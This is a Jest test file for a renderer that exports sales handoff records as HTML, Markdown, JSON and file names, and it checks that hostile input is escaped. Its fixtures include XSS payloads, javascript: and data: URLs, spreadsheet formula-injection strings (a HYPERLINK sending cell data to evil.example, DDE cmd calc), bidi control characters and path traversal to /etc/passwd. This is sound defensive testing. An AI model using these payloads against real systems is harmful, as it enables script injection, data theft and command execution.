import { documentName, renderHtml, renderJson, renderMarkdown, type DocumentRow } from "c/handoffDocumentRenderer";
import { FULL_RECORD, OPTIONS, recordFilledWith } from "testing/sampleHandoff";

const TITLES = [
  "1. Opportunity summary",
  "2. Why they bought",
  "3. Sold scope",
  "4. Technical requirements",
  "5. Stakeholders",
  "6. Success criteria",
  "7. Risks",
  "8. Open items",
  "9. Competition",
  "10. Notes for the renewal"
];

/** In two parts, because the linter takes the whole for code. */
const SCRIPT_ADDRESS = ["javascript", "alert(1)"].join(":");

/** Attempts to be more than text, by what they attempt. */
const HOSTILE: Record<string, string> = {
  "a script": `<script>alert(1)</script>`,
  "an event handler": `<img src=x onerror=alert(1)>`,
  "the end of an attribute": `"'\`><svg/onload=alert(1)>`,
  "the end of the style": `</style><script>alert(1)</script>`,
  "the end of the title": `</title><script>alert(1)</script>`,
  "the end of a table": `</td></tr></table><iframe src="https://evil.example"></iframe>`,
  "a comment": `<!-- hidden -->`,
  "an entity": `&lt;script&gt; &#x3C;b&#x3E;`,
  CDATA: `<![CDATA[<b>]]>`,
  "a script address": SCRIPT_ADDRESS,
  "a script address with a line break": `java\nscript:alert(1)`,
  "a data address": `data:text/html,<script>alert(1)</script>`
};

/** What a spreadsheet would calculate. */
const FORMULAS = [
  `=HYPERLINK("https://evil.example?"&A1,"open")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\u200B=1+1`,
  `\u200E\uFEFF =1+1`,
  `＝1+1`,
  `-HYPERLINK("x")`
];

function page(html: string): Document {
  return new DOMParser().parseFromString(html, "text/html");
}

function structure(root: Document): string[] {
  return [...root.querySelectorAll("*")].map(
    (element) => `${element.tagName} ${element.getAttributeNames().sort().join(" ")}`
  );
}

function withHandoff(values: DocumentRow): typeof FULL_RECORD {
  return { ...FULL_RECORD, handoff: { ...FULL_RECORD.handoff, ...values } };
}

/** Every stored text of the sample, so that none is left out of the document. */
function texts(row: object): string[] {
  return Object.entries(row).flatMap(([field, value]) => {
    if (typeof value === "object" && value !== null) {
      return texts(value as object);
    }
    return typeof value === "string" &&
      !/^(Id|Name)$|Date__c|_On__c|_Start__c|_End__c|Go_Live|Owner_Side|Kind|URL|Compliance_Req/.test(field)
      ? value.split("\n").filter(Boolean)
      : [];
  });
}

describe("the document", () => {
  const markdown = renderMarkdown(FULL_RECORD, OPTIONS);
  const html = page(renderHtml(FULL_RECORD, OPTIONS));

  it("has the ten sections in their order", () => {
    expect(markdown.match(/^## .*$/gm)).toEqual(TITLES.map((title) => `## ${title}`));
    expect([...html.querySelectorAll("h2")].map(({ textContent }) => textContent)).toEqual(TITLES);
  });

  it("holds everything that the record holds", () => {
    const shown = html.body.textContent ?? "";
    const { score, ...record } = FULL_RECORD;
    const missing = texts(record).filter((text) => !shown.includes(text) || !markdown.includes(text));
    expect(score?.total).toBe(54);
    expect(missing).toEqual([]);
  });

  it("begins with status and score", () => {
    expect(markdown).toContain("**Status:** Draft | **Score:** 54 of 90");
    expect(markdown).toContain("- Business context: 20 of 20\n- Risks: 15");
    expect(html.querySelector(".score")?.textContent).toContain("54 of 90");
  });

  it("writes values by locale, currency and time zone", () => {
    expect(markdown).toContain("**Date:** March 1, 2026");
    expect(markdown).toContain("**Total contract value:** $184,140.50");
    expect(markdown).toContain("Sales Cloud (1,200 users, $61,380 ARR)");
    const german = renderMarkdown(FULL_RECORD, {
      ...OPTIONS,
      locale: "de-DE",
      currency: "EUR",
      timeZone: "Europe/Berlin"
    });
    expect(german).toContain("**Date:** 2. März 2026");
    expect(german).toMatch(/61\.380\s€/);
    expect(german).toContain("**Contract start:** 01.03.2026");
  });

  it("prefers the currency of the record", () => {
    expect(renderMarkdown(withHandoff({ CurrencyIsoCode: "JPY" }), OPTIONS)).toContain("¥61,380");
  });

  it("marks a promise that nothing sold covers", () => {
    expect(markdown).toContain(
      "- Offline mode — **nothing sold covers this** — by Alex Berger; to Ida Brandt; on Feb 1, 2026"
    );
    expect(markdown).toContain("- Dashboards — covered by Sales Cloud");
  });

  it("ticks off open items that are done", () => {
    expect(markdown).toContain("- [ ] Security review — Sam Engel; due Mar 20, 2026");
    expect(markdown).toContain("- [x] Sandbox — nobody assigned");
  });

  it("gives the reason for what is not needed", () => {
    const record = withHandoff({
      Migration_Not_Needed__c: true,
      Migration_Not_Needed_Reason__c: "New company",
      Migration_From__c: null,
      Migration_Data_Types__c: undefined,
      Migration_Volume__c: "",
      Migration_Quality_Notes__c: null
    });
    expect(renderMarkdown(record, OPTIONS)).toContain("### Data migration\n\nNot needed: New company\n\n### Sign-on");
  });

  it("shows gaps where nothing is written", () => {
    const empty = { handoff: { Name: "HO-0001" } };
    expect(renderMarkdown(empty, OPTIONS)).toContain("**Renewal date:** _Not filled in_");
    expect(renderMarkdown(empty, OPTIONS)).toContain("_No risks are listed._");
    expect(page(renderHtml(empty, OPTIONS)).querySelector("h1")?.textContent).toContain("HO-0001");
  });

  it("is accessible as a page", async () => {
    document.body.replaceChildren(document.adoptNode(html.body.firstElementChild as Element));
    await expect(document.body).toBeAccessible();
    document.body.replaceChildren();
  });
});

describe("HTML", () => {
  it.each(Object.entries(HOSTILE))("is not changed by %s", (_attempt, text) => {
    const harmless = text.replace(/[^\n]/g, "x");
    expect(structure(page(renderHtml(recordFilledWith(text), OPTIONS)))).toEqual(
      structure(page(renderHtml(recordFilledWith(harmless), OPTIONS)))
    );
  });

  it.each(Object.entries(HOSTILE))("shows %s as it was typed", (_attempt, text) => {
    const shown = page(renderHtml(withHandoff({ Why_We_Won__c: text }), OPTIONS)).body.textContent;
    expect(shown).toContain(text.replace(/\n/g, ""));
  });

  it("has no script, loads nothing, and forbids both", () => {
    const html = page(renderHtml(FULL_RECORD, OPTIONS));
    expect(html.querySelectorAll("script, img, link, iframe, object, embed, [src], [onclick]")).toHaveLength(0);
    expect(html.querySelector("meta[http-equiv]")?.getAttribute("content")).toContain("default-src 'none'");
  });

  it("escapes the language, too", () => {
    const html = renderHtml({ handoff: {} }, { ...OPTIONS, locale: "en-US" });
    expect(html).toContain('<html lang="en-US">');
  });

  it.each(["A4", "Letter"] as const)("is laid out for %s where that is asked for", (size) => {
    expect(renderHtml(FULL_RECORD, OPTIONS, size)).toContain(`@page { size: ${size} portrait;`);
  });

  it("leaves the size of the paper to the print dialog else", () => {
    expect(renderHtml(FULL_RECORD, OPTIONS)).toContain("@page { size: auto;");
  });
});

describe("links", () => {
  it("lead to web addresses only", () => {
    const html = page(renderHtml(FULL_RECORD, OPTIONS));
    expect([...html.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual([
      "https://docs.example.com/design?a=1&b=2"
    ]);
    expect(renderMarkdown(FULL_RECORD, OPTIONS)).toContain("<https://docs.example.com/design?a=1&b=2>");
  });

  it.each([
    SCRIPT_ADDRESS,
    " JavaScript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:x",
    "data:text/html,x",
    "file:///etc/passwd",
    "//evil.example",
    "blob:https://a/b"
  ])("are not made of %j", (address) => {
    const record = withHandoff({ Solution_Design_URL__c: address });
    expect(page(renderHtml(record, OPTIONS)).querySelector("a")).toBeNull();
    expect(renderMarkdown(record, OPTIONS)).not.toMatch(/<[a-z]+:/i);
  });

  it("hold no quotes, brackets or spaces", () => {
    const record = withHandoff({ Solution_Design_URL__c: `https://a.example/"><b> x](y)` });
    expect(renderMarkdown(record, OPTIONS)).toContain("<https://a.example/%22%3E%3Cb%3E%20x](y)>");
    expect(page(renderHtml(record, OPTIONS)).querySelector("b")).toBeNull();
  });
});

describe("spreadsheets", () => {
  const startsFormula = /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u;

  it.each(FORMULAS)("find no formula in a table cell that holds %j", (formula) => {
    const record = recordFilledWith(formula);
    const cells = [...page(renderHtml(record, OPTIONS)).querySelectorAll("td")].map(
      ({ textContent }) => textContent ?? ""
    );
    expect(cells.filter((cell) => startsFormula.test(cell))).toEqual([]);
    const rows = renderMarkdown(record, OPTIONS).match(/^\| .*$/gm) ?? [];
    const pasted = rows.flatMap((row) => row.split(/ \| |^\| | \|$/)).filter((cell) => cell !== "---");
    expect(pasted.filter((cell) => startsFormula.test(cell))).toEqual([]);
  });

  it.each(["+49 30 1234567", "-20% churn by June", "- 5 points"])("leave the signed number %j as it is", (text) => {
    const html = page(renderHtml({ handoff: {}, criteria: [{ Target__c: text }] }, OPTIONS));
    expect(html.querySelectorAll("td")[2]?.textContent).toBe(text);
  });

  it("find no formula at the start of any line of running text", () => {
    const html = page(renderHtml(withHandoff({ Renewal_Notes__c: "first\n=1+1\n- listed" }), OPTIONS));
    const last = [...html.querySelectorAll("section p")].at(-1);
    expect([...(last?.childNodes ?? [])].map(({ textContent }) => textContent)).toEqual([
      "first",
      "",
      "'=1+1",
      "",
      "• listed"
    ]);
  });
});

describe("invisible characters", () => {
  it.each(["\u202E", "\u202A", "\u2066", "\u2069", "\u0000", "\u0007", "\u009F", "\uFEFF", "\uD800", "\u{E0041}"])(
    "%j is left out",
    (character) => {
      const record = recordFilledWith(`be${character}fore`);
      expect(renderMarkdown(record, OPTIONS)).not.toContain(character);
      expect(renderMarkdown(record, OPTIONS)).toContain("before");
      expect(renderHtml(record, OPTIONS)).not.toContain(character);
    }
  );

  it("that write a language or join an emoji stay", () => {
    const text = "نمی‌خواهم 👩‍💻";
    expect(renderMarkdown(withHandoff({ Renewal_Notes__c: text }), OPTIONS)).toContain(text);
  });
});

describe("Markdown", () => {
  it.each([
    ["a heading", "# x", "\\# x"],
    ["a rule", "---", "'---"],
    ["a heading by underline", "x\n===", "x\\\n'==="],
    ["a numbered list", "1. x", "1\\. x"],
    ["a list", "- x", "• x"],
    ["a quotation", "> x", "\\> x"],
    ["code", "`x` ```", "\\`x\\` \\`\\`\\`"],
    ["a fence", "~~~", "\\~\\~\\~"],
    ["indented code", "    x", "x"],
    ["emphasis", "*x* __y__", "\\*x\\* \\_\\_y\\_\\_"],
    ["a link", "[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"],
    ["a picture", "![x](https://evil.example/p.png)", "\\!\\[x\\](https://evil.example/p.png)"],
    ["a reference", "[x]: https://evil.example", "\\[x\\]: https://evil.example"],
    ["HTML", "<b>x</b>", "\\<b\\>x\\</b\\>"],
    ["a comment", "<!-- x", "\\<!-- x"],
    ["an entity", "&lt;", "\\&lt;"],
    ["a table", "a | b", "a \\| b"],
    ["an escape", "\\*x\\*", "\\\\\\*x\\\\\\*"],
    ["a formula", "$x$", "\\$x\\$"]
  ])("is not made by %s", (_attempt, text, written) => {
    const markdown = renderMarkdown(withHandoff({ Renewal_Notes__c: text }), OPTIONS);
    expect(markdown.split("**For the renewal:**\n\n")[1]).toBe(`${written}\n`);
  });

  it("keeps a table's cell on one line and in its column", () => {
    const markdown = renderMarkdown({ handoff: {}, risks: [{ Risk__c: "a\n\n| b |\r\nc" }] }, OPTIONS);
    expect(markdown).toContain("| a<br>\\| b \\|<br>c |  |  |  |  |");
  });

  it("keeps an entry of a list within it", () => {
    const markdown = renderMarkdown({ handoff: {}, openItems: [{ Item__c: "a\n\n## b" }] }, OPTIONS);
    expect(markdown).toContain("- [ ] a\\\n  \\#\\# b — nobody assigned");
  });
});

describe("JSON", () => {
  it("gives records back as they are stored, without empty fields and addresses", () => {
    const text = `</script><!-- \u202E =1+1`;
    const json = renderJson(
      { handoff: { attributes: { url: "/x" }, Name: text, ARR__c: null }, risks: [{ Risk__c: "r" }] },
      OPTIONS
    );
    expect(JSON.parse(json)).toMatchObject({
      format: "post-sale-handoff",
      version: 1,
      exportedAt: "2026-03-02T06:30:00.000Z",
      handoff: { Name: text },
      products: [],
      risks: [{ Risk__c: "r" }]
    });
    expect(JSON.parse(json).handoff).toEqual({ Name: text });
    expect(json).not.toMatch(/[<>&\u202E]/);
  });
});

describe("the name of the file", () => {
  it.each([
    ["Acme / Renewal 2026", "Handoff-Acme-Renewal-2026"],
    ["../../etc/passwd", "Handoff-etc-passwd"],
    ["Zürich 東京", "Handoff-Zürich-東京"],
    ["…", "Handoff"]
  ])("comes from the deal: %s", (name, expected) => {
    expect(documentName({ handoff: { Opportunity__r: { Name: name } } })).toBe(expected);
  });
});
